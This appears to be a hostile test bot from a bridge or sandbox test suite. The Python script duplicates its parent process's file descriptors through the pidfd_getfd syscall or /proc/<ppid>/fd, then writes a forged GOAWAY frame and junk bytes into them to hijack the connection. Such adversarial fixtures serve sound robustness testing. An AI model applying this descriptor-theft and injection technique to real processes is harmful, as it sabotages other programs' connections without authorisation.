"""A bot that takes the connection of the stdio bridge out of its process, and speaks on it."""

import ctypes
import os

from hostile.frames import GOAWAY, frame
from hostile.lines import run_lines

PIDFD_OPEN, PIDFD_GETFD = 434, 438
libc = ctypes.CDLL(None)


def attack(turn):
    bridge = os.getppid()
    held = libc.syscall(PIDFD_OPEN, bridge, 0)
    for number in range(3, 64):
        taken = libc.syscall(PIDFD_GETFD, held, number, 0)
        if taken < 0:
            try:
                taken = os.open(f"/proc/{bridge}/fd/{number}", os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
        try:
            os.write(taken, frame(GOAWAY, 0, 0, bytes(8)) + b"\xff" * 100_000)
        except OSError:
            pass


run_lines(attack)
